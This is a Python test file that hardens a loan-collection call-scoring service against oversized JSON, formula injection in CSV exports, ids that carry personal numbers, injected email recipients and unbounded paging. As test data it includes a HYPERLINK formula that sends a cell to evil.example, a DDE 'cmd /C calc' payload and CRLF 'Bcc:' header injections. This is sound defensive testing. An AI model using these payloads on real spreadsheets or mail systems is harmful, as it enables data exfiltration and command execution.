"""Hardening, round two (issue #26, and #27's point 3): the loan book, the outbox and the JSON routes under attack.
Each finding of the review, reproduced against the app and shown fixed; property tests where the input space is
wide (JSON size and depth, ids, contact fields, CSV cells, paging parameters)."""

from __future__ import annotations

import csv
import io
import json
import logging
import stat
import threading
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service import bootstrap
from service.api.bodies import DEFAULT_MAX_BYTES, MAX_DEPTH, JsonBodyGuard, body_limit, nesting_depth
from service.app import create_app, state_of
from service.auth import AuthError, Principal, TicketBook, TokenRegistry, hash_token, write_tokens_file
from service.ids import id_problem, valid_id
from service.protocol import LoanFile, valid_address
from service.settings import Settings
from service.spreadsheet import FORMULA_STARTS, csv_text
from tests.integration.test_auth import _closed
from tests.integration.test_live_socket import START, FakeTranscriber
from tests.integration.test_loanbook import LOAN, report, score
from tests.support.server import audited, bearer, free_port, tokens_client

TOKENS = {"ing": ("ingest", None), "a1": ("agent", "A1"), "sup": ("supervisor", None), "adm": ("admin", None)}
#: Hypothesis: no deadline (two cores shared by several people), few examples where each starts a request.
FAST = settings(deadline=None, max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
FEW = settings(deadline=None, max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture()
def client(tmp_path: Path) -> Any:
    with tokens_client(tmp_path, TOKENS, FakeTranscriber()) as c:
        yield c


# -- 1. JSON bodies: authenticated before they are read, bounded while they stream ------------------------------

class _Receiver:
    """An ASGI receive that streams `total` bytes in 64 KiB chunks and counts what was taken."""

    def __init__(self, total: int) -> None:
        self.total, self.sent, self.calls = total, 0, 0

    async def __call__(self) -> dict[str, Any]:
        self.calls += 1
        chunk = min(65536, self.total - self.sent)
        self.sent += chunk
        return {"type": "http.request", "body": b"[" * chunk, "more_body": self.sent < self.total}


async def _guarded(path: str, token: str | None, total: int, declared: bool = False,
                   method: str = "POST") -> tuple[int, _Receiver, bool]:
    """Send `total` bytes through the guard to a route that records whether it ran; (status, receiver, ran)."""
    registry = TokenRegistry()
    registry.add(hash_token("good"), Principal("ing", "ingest"))
    ran = False

    async def route(scope: Any, receive: Any, send: Any) -> None:
        nonlocal ran
        ran = True
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})

    headers = [(b"content-type", b"application/json")]
    if token:
        headers.append((b"authorization", f"Bearer {token}".encode()))
    if declared:
        headers.append((b"content-length", str(total).encode()))
    app = SimpleNamespace(state=SimpleNamespace(huifang=SimpleNamespace(tokens=registry)))
    scope = {"type": "http", "method": method, "path": path, "headers": headers, "query_string": b"", "app": app}
    statuses: list[int] = []

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            statuses.append(message["status"])

    receiver = _Receiver(total)
    await JsonBodyGuard(route)(scope, receiver, send)  # type: ignore[arg-type]
    return statuses[0], receiver, ran


@pytest.mark.asyncio
@pytest.mark.parametrize("path,method", [("/v1/tickets", "POST"), ("/v1/assess", "POST"), ("/v1/demo/calls", "POST"),
                                         ("/v1/customers/C1/contact", "PUT"), ("/v1/followups/f1/assign", "POST"),
                                         ("/v1/followups/f1/outcome", "POST")])
async def test_an_anonymous_body_is_not_read_at_all(path: str, method: str) -> None:
    for token in (None, "forged"):
        status, receiver, ran = await _guarded(path, token, 100 << 20, method=method)
        assert (status, receiver.calls, ran) == (401, 0, False)


@pytest.mark.asyncio
async def test_a_known_callers_body_is_cut_off_at_its_routes_limit_while_it_streams() -> None:
    status, receiver, ran = await _guarded("/v1/tickets", "good", 100 << 20)  # chunked: no length declared
    assert (status, ran) == (413, False) and receiver.sent <= 2 * 65536  # 128 KiB read of 100 MiB
    status, receiver, ran = await _guarded("/v1/tickets", "good", 100 << 20, declared=True)
    assert (status, receiver.calls, ran) == (413, 0, False)  # refused by its Content-Length, unread


@FAST
@given(size=st.integers(min_value=0, max_value=70_000),
       path=st.sampled_from(["/v1/tickets", "/v1/assess", "/v1/followups/x/outcome", "/v1/unknown"]))
@pytest.mark.asyncio
async def test_bodies_pass_exactly_up_to_their_limit(size: int, path: str) -> None:
    status, _, ran = await _guarded(path, "good", size)
    limit = body_limit("POST", path)
    if size > limit:
        assert (status, ran) == (413, False)
    else:
        assert ran or status == 400  # within the limit: the route runs unless the brackets nest too deep
        assert ran == (min(size, 1) <= MAX_DEPTH and nesting_depth(b"[" * size) <= MAX_DEPTH)


def _nest(depth: int) -> Any:
    value: Any = 1
    for i in range(depth):
        value = [value] if i % 2 else {"k": value}
    return value


@FAST
@given(depth=st.integers(min_value=0, max_value=200), noise=st.text(alphabet='[]{}"\\x', max_size=20))
def test_nesting_depth_is_the_json_depth_and_ignores_brackets_in_strings(depth: int, noise: str) -> None:
    body = json.dumps({"s": noise, "v": _nest(depth)}).encode()
    assert nesting_depth(body) == depth + 1


def test_json_routes_through_the_app(client: TestClient) -> None:
    big = b'{"call_id": "' + b"x" * 200_000 + b'"}'
    assert client.post("/v1/tickets", content=big, headers={"Content-Type": "application/json"}).status_code == 401
    refused = client.post("/v1/tickets", content=big, headers={**bearer("ing"), "Content-Type": "application/json"})
    assert refused.status_code == 413 and refused.json()["code"] == "too_large"
    assert refused.headers["X-Content-Type-Options"] == "nosniff"  # refusals carry the security headers
    deep = "[" * (MAX_DEPTH + 5) + "]" * (MAX_DEPTH + 5)
    nested = client.post("/v1/assess", content=f'{{"question": "q", "answer": "a", "x": {deep}}}',
                         headers={**bearer("sup"), "Content-Type": "application/json"})
    assert nested.status_code == 400 and nested.json()["code"] == "too_deep"
    ok = client.post("/v1/tickets", json={"call_id": "demo-call_s03a"}, headers=bearer("ing"))
    assert ok.status_code == 201
    assess = client.post("/v1/assess", json={"question": "您每月还款日是哪天？", "answer": "十五号",
                                             "loan_file": {"repay_day": 15}}, headers=bearer("sup"))
    assert assess.status_code == 200
    assert DEFAULT_MAX_BYTES <= 4096


# -- 2. Legal hold and replacing a stored call ----------------------------------------------------------------

def _noise_wav(seconds: float) -> bytes:
    import wave

    import numpy as np

    samples = (np.random.default_rng(7).standard_normal(int(8000 * seconds) * 2) * 3000).astype("<i2")
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(2)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(samples.tobytes())
    return buf.getvalue()


def _score_upload(client: TestClient, call_id: str, token: str, **fields: str) -> httpx.Response:
    """Upload a short recording (line noise: not silent, so the upload is accepted for scoring)."""
    return client.post("/v1/recordings", headers=bearer(token), data={"call_id": call_id, **fields},
                       files={"file": ("a.wav", _noise_wav(2.0), "audio/wav")})


def test_a_stored_call_is_replaced_only_by_an_admin_and_never_under_hold(tmp_path: Path) -> None:
    path = tmp_path / "tokens.yaml"
    write_tokens_file(path, TOKENS)  # type: ignore[arg-type]
    for hold_days in (30.0, 0.0):
        data = tmp_path / f"data-{hold_days}"
        settings = Settings(data_dir=data, auth={"tokens_file": path}, scoring={"min_retention_days": hold_days})
        with TestClient(create_app(settings, transcriber=FakeTranscriber())) as c:  # type: ignore[arg-type]
            score(c, "held", report("held", "high", {"guarantor": "unclear"}), agent_id="A1")
            store = state_of(c.app).store  # type: ignore[arg-type]
            assert store is not None
            before = store.get_call("held")
            assert before is not None
            ingest = _score_upload(c, "held", "ing", agent_id="A9", loan_file=json.dumps({"customer_id": "C9"}))
            assert ingest.status_code == 409
            assert ingest.json()["code"] == ("retention" if hold_days else "call_exists")
            admin = _score_upload(c, "held", "adm", replace="true")
            after = store.get_call("held")
            assert after is not None and after.agent_id == "A1" and after.report == before.report
            assert c.get("/v1/calls/held/report", headers=bearer("a1")).status_code == 200  # the agent keeps it
            refused = [json.loads(e.payload)["reason"] for e in audited(c, "upload_refused")]
            if hold_days:
                assert admin.status_code == 409 and admin.json()["code"] == "retention"
                assert refused == ["retention", "retention"]
                continue
            assert admin.status_code == 202 and refused == ["call_exists"], admin.text
            assert [e.actor for e in audited(c, "call_replaced")] == ["admin-3"]
            # (Scoring the noise fails with the fake recogniser: the replacement itself is stored by the store,
            # tested below.) The earlier versions are for admins.
            assert c.get("/v1/calls/held/versions", headers=bearer("adm")).status_code == 200
            assert c.get("/v1/calls/held/versions", headers=bearer("sup")).status_code == 403


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_replacing_keeps_the_earlier_report_as_a_version_until_deletion(tmp_path: Path, backend: str) -> None:
    from contextlib import nullcontext

    from tests.support.postgres import fresh_postgres_schema

    with (fresh_postgres_schema() if backend == "postgresql" else nullcontext(f"sqlite:///{tmp_path / 'v.db'}")) \
            as url:
        _versions_on(url, tmp_path)


def _versions_on(url: str, tmp_path: Path) -> None:
    from service.store import Store
    from service.workers.jobs import JobContext, run_job

    store = Store(url)
    store.migrate()
    for n, tier in enumerate(("high", "low", "medium")):
        job = store.create_job("c1", [], {"customer_id": "C1"}, "A1")
        claimed = store.claim(job.id)
        assert claimed is not None
        rep = report("c1", tier, {"term": "clear"})
        run_job(JobContext(store, tmp_path, lambda *_, r=rep: __import__("pipeline.recording", fromlist=["Scored"])
                           .Scored(r, []), 30.0), claimed)
        assert len(store.call_versions("c1")) == n
    assert [v.report["tier"] for v in store.call_versions("c1")] == ["high", "low"]
    assert [v.version for v in store.call_versions("c1")] == [1, 2]
    # A review corrects the current report (kept in report_versions); every earlier report is listed, each with
    # what replaced it, and a later replacement keeps the review's reason on the report it moves.
    from service.reports import report_row

    current = store.get_call("c1")
    assert current is not None
    assert store.replace_report("c1", current.report, report_row(report("c1", "low", {"term": "clear"})), "v-old",
                                reason="review") == 1
    assert [(e.version, e.reason, e.report["tier"]) for e in store.earlier_reports("c1")] == [
        (1, "replace", "high"), (2, "replace", "low"), (3, "review", "medium")]
    reviewed_at = store.earlier_reports("c1")[2].replaced_at
    job = store.create_job("c1", [], {"customer_id": "C1"}, "A1")
    claimed = store.claim(job.id)
    assert claimed is not None
    rep = report("c1", "high", {"term": "clear"})
    run_job(JobContext(store, tmp_path, lambda *_, r=rep: __import__("pipeline.recording", fromlist=["Scored"])
                       .Scored(r, []), 30.0), claimed)
    assert [(e.version, e.reason, e.report["tier"]) for e in store.earlier_reports("c1")] == [
        (1, "replace", "high"), (2, "replace", "low"), (3, "review", "medium"), (4, "replace", "low")]
    # Moved with the replacement, the review's report keeps when the review replaced it.
    times = [e.replaced_at for e in store.earlier_reports("c1")]
    assert times[2] == reviewed_at and times == sorted(times)
    store.delete_call("c1")
    assert store.call_versions("c1") == [] and store.earlier_reports("c1") == []
    store.close()


# -- 3. Formula injection in CSV -------------------------------------------------------------------------------

@FAST
@given(cells=st.lists(st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=False), st.none()),
                      min_size=1, max_size=6))
def test_no_csv_cell_starts_like_a_formula(cells: list[Any]) -> None:
    text = csv_text(["h"] * len(cells), [cells])
    (header, row) = list(csv.reader(io.StringIO(text, newline="")))
    for given_value, cell in zip(cells, row, strict=True):
        if isinstance(given_value, str):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell == given_value or cell == "'" + given_value
        elif isinstance(given_value, int | float):
            assert cell == str(given_value)  # numbers stay numbers, negative ones too


def test_a_formula_agent_id_is_refused_and_a_stored_one_is_neutralised(client: TestClient) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"report")'
    upload = _score_upload(client, "csv1", "ing", agent_id=formula)
    assert upload.status_code == 422 and upload.json()["code"] == "bad_agent_id"
    with client.websocket_connect("/v1/calls/csv2/audio", headers=bearer("ing")) as ws:
        ws.send_json({**START, "agent_id": formula})
        events, code = _closed(ws)
    assert code == 4400 and events[0]["code"] == "bad_start"
    # One stored before ids were checked (or written by another tool) comes back as text.
    score(client, "csv3", report("csv3", "low", {"term": "clear"}), agent_id="@SUM(1+1)*cmd|' /C calc'!A0")
    text = client.get("/v1/agents", params={"format": "csv"}, headers=bearer("sup")).text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


# -- ids: one pattern, no personal numbers, logged as they are (#27, point 3) ---------------------------------

PERSONAL = ["13812345678", "call-13812345678", "138-1234-5678", "86-13912345678x", "110101199003074477",
            "ID11010119900307447X", "6222020200112233445", "card_622202020011", "010-12345678", "0571.88886666",
            "c02112345678"]
KEPT = ["demo-call_s03a", "demo-call_s03-1a2b3c", "DEMO-C001", "DEMO-L001", "DEMO-A01", "call_s07", "A08",
        "call-20261206-101200-abc123", "s05", "C-1", "L-9", "live-2", "abc:1.2_3", "20261206", "x" * 64]


@pytest.mark.parametrize("value", PERSONAL)
def test_ids_that_look_like_personal_numbers_are_refused(value: str) -> None:
    for kind in ("call", "agent", "customer", "loan"):
        problem = id_problem(value, kind)  # type: ignore[arg-type]
        assert problem is not None and "personal" in problem, (kind, value)


@pytest.mark.parametrize("value", KEPT)
def test_the_demo_and_generated_ids_stay_valid(value: str) -> None:
    assert all(valid_id(value, k) for k in ("call", "agent", "customer", "loan"))  # type: ignore[arg-type]


@FAST
@given(st.text(max_size=200))
def test_an_id_is_valid_only_in_its_alphabet_and_length(value: str) -> None:
    import re

    for kind, limit in (("call", 128), ("customer", 64)):
        if valid_id(value, kind):  # type: ignore[arg-type]
            assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:-]*", value) and len(value) <= limit
            assert not re.search(r"(?<!\d)1[3-9]\d{9}(?!\d)|\d{12,}", value)


@FAST
@given(prefix=st.from_regex(r"[a-z]{1,5}[-_]?", fullmatch=True),
       number=st.one_of(st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True),
                        st.from_regex(r"[0-9]{17}[0-9X]", fullmatch=True),
                        st.from_regex(r"[0-9]{12,19}", fullmatch=True)))
def test_no_id_carries_a_mobile_an_id_card_or_a_card_number(prefix: str, number: str) -> None:
    assert not valid_id(prefix + number)
    assert not valid_id(number + "-" + prefix)


def test_ids_are_checked_on_every_path(client: TestClient, tmp_path: Path) -> None:
    long_id = "C" * 60_000
    for token, method, url, body in [
            ("ing", "PUT", f"/v1/customers/{long_id}/contact", {"phone": "13812345678"}),
            ("ing", "PUT", "/v1/customers/13812345678/contact", {"phone": "13812345678"}),
            ("sup", "GET", f"/v1/customers/{long_id}", None),
            ("sup", "GET", "/v1/calls/110101199003074477/report", None),
            ("sup", "GET", "/v1/agents/6222020200112233445", None),
            ("ing", "POST", "/v1/tickets", {"call_id": "13812345678"}),
            ("sup", "POST", "/v1/followups/f1/assign", {"assignee": "13812345678"})]:
        response = client.request(method, url, json=body, headers=bearer(token))
        assert response.status_code == 422, (url[:60], response.text[:200])
    assert client.get("/v1/followups", params={"customer_id": "C" * 65}, headers=bearer("sup")).status_code == 422
    assert client.get("/v1/calls", params={"agent": "13812345678"}, headers=bearer("sup")).status_code == 422
    with pytest.raises(Exception, match="customer_id"):
        LoanFile.model_validate({"customer_id": "13812345678"})
    with pytest.raises(Exception, match="loan_id"):
        LoanFile.model_validate({"loan_id": "L" * 65})
    upload = _score_upload(client, "13812345678", "ing")
    assert upload.status_code == 422 and upload.json()["code"] == "bad_call_id"
    with client.websocket_connect("/v1/calls/13812345678/audio", headers=bearer("ing")) as ws:
        events, code = _closed(ws)
    assert code == 4400 and events[0]["code"] == "bad_call_id"
    with client.websocket_connect("/v1/calls/ok-1/twilio") as ws:
        ws.send_text(json.dumps({"event": "start", "start": {"customParameters": {
            "token": "ing", "agent_id": "=1+1"}}}))
        events, code = _closed(ws)
    assert code == 4400 and events[0]["code"] == "bad_start"
    tokens = tmp_path / "bad-tokens.yaml"
    write_tokens_file(tokens, {"x": ("agent", "=cmd")})
    from service.auth import load_tokens_file

    with pytest.raises(AuthError, match="agent_id"):
        load_tokens_file(tokens)


def test_the_cli_takes_ids_as_the_service_does(capsys: pytest.CaptureFixture[str]) -> None:
    from service.cli import build_parser

    parser = build_parser()
    with pytest.raises(SystemExit):
        parser.parse_args(["token", "--name", "n", "--role", "agent", "--agent-id", "13812345678"])
    assert "personal" in capsys.readouterr().err
    parsed = parser.parse_args(["token", "--name", "n", "--role", "agent", "--agent-id", "DEMO-A01"])
    assert parsed.agent_id == "DEMO-A01"


def test_the_server_log_names_each_call_id_it_served(tmp_path: Path) -> None:
    """A real uvicorn with huifang's log configuration: every call id requested shows in the access log as it
    is, and a phone number in a path is still masked."""
    import uvicorn
    from uvicorn.logging import AccessFormatter

    from service.logs import PiiLogFilter, uvicorn_log_config

    path = tmp_path / "tokens.yaml"
    write_tokens_file(path, TOKENS)  # type: ignore[arg-type]
    app = create_app(Settings(data_dir=tmp_path / "data", auth={"tokens_file": path}),
                     transcriber=FakeTranscriber())  # type: ignore[arg-type]
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port,
                                           log_config=uvicorn_log_config("info")))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(AccessFormatter('%(client_addr)s - "%(request_line)s" %(status_code)s', use_colors=False))
    handler.addFilter(PiiLogFilter())
    ids = ["demo-call_s03a", "DEMO-C001-0315", "call-20261206-101200-abc123", "demo-call_s07-1a2b3c", "s05"]
    try:
        deadline = time.monotonic() + 30
        while not server.started:
            assert time.monotonic() < deadline
            time.sleep(0.05)
        logging.getLogger("uvicorn.access").addHandler(handler)
        for call_id in ids:
            httpx.get(f"http://127.0.0.1:{port}/v1/calls/{call_id}/report", headers=bearer("sup"))
        httpx.get(f"http://127.0.0.1:{port}/v1/calls/13812345678/report", headers=bearer("sup"))
    finally:
        logging.getLogger("uvicorn.access").removeHandler(handler)
        server.should_exit = True
        thread.join(timeout=10)
    log = stream.getvalue()
    for call_id in ids:
        assert f"/v1/calls/{call_id}/report" in log, log
    assert "13812345678" not in log and "[手机号]" in log


def test_log_text_is_still_masked_around_ids() -> None:
    from service.logs import scrub

    line = scrub("call demo-call_s03a: customer said 13812345678 and card 6222 0202 0011 2233 445")
    assert line.startswith("call demo-call_s03a: ") and "13812345678" not in line and "6222" not in line


# -- 4. Contact fields: one address per field, on every path --------------------------------------------------

BAD_EMAILS = ["a@x.com, b@evil.com", "a@x.com,b@evil.com", "a@x.com;b@evil.com", "a@x.com\r\nBcc: b@evil.com",
              "a@x.com\n", "<a@x.com>", "a@@x.com", "a b@x.com", '"a"@x.com', "a@x"]


@pytest.mark.parametrize("email", BAD_EMAILS)
def test_a_loan_file_with_extra_recipients_is_refused_on_every_path(client: TestClient, email: str) -> None:
    with pytest.raises(Exception, match="email"):
        LoanFile.model_validate({"customer_id": "C1", "email": email})
    with client.websocket_connect("/v1/calls/mail-1/audio", headers=bearer("ing")) as ws:
        ws.send_json({**START, "loan_file": {"customer_id": "C1", "email": email}})
        events, code = _closed(ws)
    assert code == 4400 and events[0]["code"] == "bad_start"
    upload = _score_upload(client, "mail-2", "ing", loan_file=json.dumps({"customer_id": "C1", "email": email}))
    assert upload.status_code == 422 and upload.json()["code"] == "bad_loan_file"
    put = client.put("/v1/customers/C1/contact", json={"email": email}, headers=bearer("ing"))
    assert put.status_code == 422


@FAST
@given(local=st.from_regex(r"[a-z0-9._%+-]{1,20}", fullmatch=True),
       domain=st.from_regex(r"[a-z0-9-]{1,10}\.[a-z]{2,5}", fullmatch=True),
       extra=st.sampled_from([",", ";", " ", "\r", "\n", "\t", "<", ">", '"', "@", ", b@evil.com"]),
       where=st.integers(min_value=0, max_value=40))
def test_an_email_field_holds_one_address(local: str, domain: str, extra: str, where: int) -> None:
    address = f"{local}@{domain}"
    assert valid_address("email", address)
    LoanFile.model_validate({"email": address})
    spoiled = address[:where] + extra + address[where:]
    assert not valid_address("email", spoiled)
    with pytest.raises(Exception, match="email"):
        LoanFile.model_validate({"email": spoiled})


@FAST
@given(st.text(max_size=40))
def test_a_phone_field_holds_one_number(value: str) -> None:
    import re

    if valid_address("sms", value):
        assert re.fullmatch(r"\+?[0-9][0-9 -]*", value) and "\n" not in value


def test_a_stored_address_with_extra_recipients_is_never_sent(client: TestClient) -> None:
    from service.loanbook.outbox_queue import refusal
    from service.loanbook.repository import Contact

    for email in ("a@x.com, b@evil.com", "a@x.com\r\nBcc: b@evil.com"):
        assert refusal(Contact(email=email, consent=frozenset({"email"})), "email") == "no_address"
    assert refusal(Contact(email="a@x.com", consent=frozenset({"email"})), "email") is None


# -- 5. Synchronous transcription: its own limits, and it stops when the client goes ---------------------------

def test_transcriptions_have_their_own_limits(tmp_path: Path) -> None:
    from tests.integration.test_recordings import _silence_wav

    settings = Settings(data_dir=tmp_path / "data")
    assert (settings.transcriptions.max_file_mb, settings.transcriptions.max_duration_s) == (25, 1800.0)
    assert bootstrap.transcription_limits(settings).max_file_bytes == 25 << 20
    class Transcriber(FakeTranscriber):
        def with_decoding(self, *_: Any) -> Transcriber:
            return self

    small = Settings(data_dir=tmp_path / "data", transcriptions={"max_file_mb": 1, "max_duration_s": 3})
    app = create_app(small, transcriber=Transcriber())  # type: ignore[arg-type]
    with TestClient(app) as c:
        auth = {"Authorization": f"Bearer {state_of(app).dev_token}"}
        too_big = c.post("/v1/audio/transcriptions", headers=auth, data={"model": "whisper-1"},
                         files={"file": ("a.wav", b"\0" * (2 << 20), "audio/wav")})
        assert too_big.status_code == 413 and "HUIFANG_TRANSCRIPTIONS__MAX_FILE_MB" in too_big.json()["detail"]
        too_long = c.post("/v1/audio/transcriptions", headers=auth, data={"model": "whisper-1"},
                          files={"file": ("a.wav", _silence_wav(5.0, channels=1), "audio/wav")})
        assert too_long.status_code == 413 and too_long.json()["code"] == "too_long"
        assert "/v1/recordings" in too_long.json()["error"]["message"]


@pytest.mark.asyncio
async def test_decoding_stops_when_the_client_goes() -> None:
    """The decoder's progress callback raises once the client is gone: the worker thread stops at the next
    utterance instead of decoding the rest of the file."""
    import asyncio
    from concurrent.futures import ThreadPoolExecutor
    from functools import partial

    from service.api.transcriptions import ClientGone, _stop_if, _while_connected

    utterances_done = 0

    def decode(on_progress: Any) -> Any:
        nonlocal utterances_done
        for _ in range(200):  # 200 utterances of 50 ms: 10 s of work
            time.sleep(0.05)
            utterances_done += 1
            on_progress(utterances_done)
        return "finished"

    class Request:
        def __init__(self) -> None:
            self.began = time.monotonic()

        async def is_disconnected(self) -> bool:
            return time.monotonic() - self.began > 0.6

    gone = threading.Event()
    with ThreadPoolExecutor(1) as pool:
        work = asyncio.get_running_loop().run_in_executor(pool, partial(decode, partial(_stop_if, gone)))
        began = time.monotonic()
        with pytest.raises(ClientGone):
            await _while_connected(Request(), work, gone)  # type: ignore[arg-type]
    assert time.monotonic() - began < 3 and utterances_done < 60


def test_the_transcription_passes_its_progress_to_the_decoder(tmp_path: Path) -> None:
    from asr.types import DecodeLimits
    from pipeline.transcription import transcribe_file
    from tests.integration.test_recordings import _silence_wav

    wav = tmp_path / "a.wav"
    wav.write_bytes(_silence_wav(1.0))
    seen: list[Any] = []

    class Decoder:
        options = SimpleNamespace(language="zh")

        def with_decoding(self, *_: Any) -> Decoder:
            return self

        def transcribe(self, audio: Any, roles: Any, on_progress: Any = None) -> list[Any]:
            seen.append(on_progress)
            return []

    def progress(_: float) -> None:
        pass

    transcribe_file(wav, Decoder(), DecodeLimits(60, 2, 1 << 20), on_progress=progress)  # type: ignore[arg-type]
    assert seen == [progress]


# -- 6. carried_over is the loan book's: not for a phone switch --------------------------------------------------

def test_an_ingest_token_reads_nothing_of_the_loan_book_through_a_live_call(client: TestClient) -> None:
    score(client, "call-1", report("call-1", "medium", {"overdue": "unclear"}))
    start = {**START, "loan_file": {"customer_id": "C100", "loan_id": "L100"}, "agent_id": "A1"}
    with client.websocket_connect("/v1/calls/live-7/audio", headers=bearer("ing")) as ws:
        ws.send_json(start)
        ready = ws.receive_json()
        assert ready["type"] == "ready" and ready["carried_over"] == []
        with client.websocket_connect("/v1/calls/live-7/events", headers=bearer("sup")) as events:
            assert [i["topic"] for i in events.receive_json()["carried_over"]] == ["overdue"]
        ws.send_json({"type": "stop"})
    with client.websocket_connect("/v1/calls/live-8/audio", headers=bearer("adm")) as ws:
        ws.send_json(start)
        assert [i["topic"] for i in ws.receive_json()["carried_over"]] == ["overdue"]  # an admin may read it
        ws.send_json({"type": "stop"})


# -- 7. Paging parameters are bounded ----------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/v1/followups", "/v1/customers", "/v1/calls"])
def test_huge_offsets_and_limits_are_422_not_500(client: TestClient, path: str) -> None:
    for params in ({"offset": "99999999999999999999"}, {"limit": "99999999999999999999"}, {"offset": "-1"},
                   {"limit": "0"}, {"offset": str(2 ** 63)}):
        response = client.get(path, params=params, headers=bearer("sup"))
        assert response.status_code == 422, (path, params, response.status_code)
    assert client.get(path, params={"offset": "1000000", "limit": "1"}, headers=bearer("sup")).status_code == 200


@FEW
@given(offset=st.one_of(st.integers(min_value=-5, max_value=2_000_000),
                        st.integers(min_value=2 ** 62, max_value=2 ** 70)),
       limit=st.one_of(st.integers(min_value=-5, max_value=600), st.integers(min_value=2 ** 62, max_value=2 ** 70)))
def test_any_paging_parameter_is_answered_without_an_error(client: TestClient, offset: int, limit: int) -> None:
    for path in ("/v1/followups", "/v1/customers", "/v1/calls"):
        status = client.get(path, params={"offset": offset, "limit": limit}, headers=bearer("sup")).status_code
        assert status in (200, 422)
        assert (status == 200) == (0 <= offset <= 1_000_000 and 1 <= limit <= (200 if path == "/v1/calls" else 500))


# -- 9. Outcome notes are redacted like transcripts -----------------------------------------------------------

def test_an_outcome_note_keeps_no_name_email_or_street_address() -> None:
    from nlu.free_text import free_text_redactor

    note = ("客户王小明说已搬到杭州市西湖区文三路90号3单元502室，邮箱 wang.xm@example.com，电话13812345678，"
            "王先生下周还款；Mr John Smith lives at 12 Baker Street.")
    masked = free_text_redactor().redact(note)
    for secret in ("王小明", "文三路90号", "502室", "wang.xm@example.com", "13812345678", "王先生", "John Smith",
                   "12 Baker Street"):
        assert secret not in masked, (secret, masked)
    assert "下周还款" in masked and "[姓名]" in masked and "[地址]" in masked and "[邮箱]" in masked


def test_the_outcome_route_stores_the_redacted_note(client: TestClient) -> None:
    score(client, "call-1", report("call-1", "medium", {"overdue": "unclear"},
                                   actions={"second_call": ["overdue"]}))
    items = client.get("/v1/followups", headers=bearer("sup")).json()["items"]
    followup = next(i for i in items if i["channel"] == "call")
    assert client.post(f"/v1/followups/{followup['id']}/assign", json={"assignee": "A1"},
                       headers=bearer("sup")).status_code == 200
    done = client.post(f"/v1/followups/{followup['id']}/outcome", headers=bearer("a1"),
                       json={"status": "done", "note": "联系人李娜，邮箱 li.na@example.com，住朝阳区建国路88号"})
    assert done.status_code == 200
    note = done.json()["outcome_note"]
    assert "李娜" not in note and "li.na@example.com" not in note and "建国路88号" not in note


# -- 10. Loan-book entries are checkpointed when logged ----------------------------------------------------------

def test_reads_and_erasures_of_the_loan_book_are_checkpointed_at_once(client: TestClient) -> None:
    from service.store import audit

    store = state_of(client.app).store  # type: ignore[arg-type]
    assert store is not None and store.anchor is not None
    score(client, "call-1", report("call-1", "medium", {"overdue": "unclear"}))
    for method, url, token, body in [("PUT", "/v1/customers/C100/contact", "ing", {"phone": "13812345678"}),
                                     ("GET", "/v1/customers/C100", "sup", None),
                                     ("GET", "/v1/agents", "sup", None),
                                     ("GET", "/v1/agents/A1", "sup", None),
                                     ("DELETE", "/v1/customers/C100", "adm", None)]:
        assert client.request(method, url, json=body, headers=bearer(token)).status_code < 300, url
        head = audit.head(store)
        assert head is not None
        latest = json.loads(store.anchor.path.read_text(encoding="utf-8").splitlines()[-1])
        assert latest["seq"] == head[0], (url, latest, head)  # no wait for the minute


# -- 11. Files private to the service; an erasure leaves no byte of the customer ----------------------------------

def test_files_are_private_and_an_erasure_leaves_nothing_readable(client: TestClient) -> None:
    settings = state_of(client.app).settings  # type: ignore[arg-type]
    data = settings.data_dir
    name, address, email = "钱多多", "杭州市西湖区文三路90号", "qian.duoduo@example.com"
    note = "钱先生说搬家了，新地址在滨江区江南大道1888号，邮件 qd2@example.org"
    loan = {**LOAN, "borrower": name, "address": address, "email": email, "consent": ["email"]}
    store = state_of(client.app).store  # type: ignore[arg-type]
    assert store is not None
    job = store.create_job("erase-1", [], loan, "A1")
    claimed = store.claim(job.id)
    assert claimed is not None
    from pipeline.recording import Scored
    from service.workers.jobs import JobContext, run_job

    book = state_of(client.app).loanbook  # type: ignore[arg-type]
    assert book is not None
    rep = report("erase-1", "medium", {"overdue": "unclear"}, actions={"second_call": ["overdue"]})
    run_job(JobContext(store, data, lambda *_: Scored(rep, []), 30.0, after_report=book.plan), claimed)
    client.put("/v1/customers/C100/contact", json={"email": email, "consent": ["email"]}, headers=bearer("ing"))
    followup = next(i for i in client.get("/v1/followups", headers=bearer("sup")).json()["items"]
                    if i["channel"] == "call")
    client.post(f"/v1/followups/{followup['id']}/assign", json={"assignee": "A1"}, headers=bearer("sup"))
    client.post(f"/v1/followups/{followup['id']}/outcome", json={"status": "done", "note": note},
                headers=bearer("a1"))
    # Private files: the data directory 0700, the database and its WAL 0600.
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    for path in data.rglob("*"):
        if path.is_file() or path.is_dir():
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
    assert client.delete("/v1/customers/C100", headers=bearer("adm")).status_code == 204
    secrets = [s.encode() for s in (name, address, email, note, "滨江区江南大道1888号", "qd2@example.org",
                                    "钱先生", "文三路90号")]
    for path in data.rglob("*"):
        if path.is_file() and not path.is_symlink():
            content = path.read_bytes()
            for secret in secrets:
                assert secret not in content, (path.name, secret.decode())


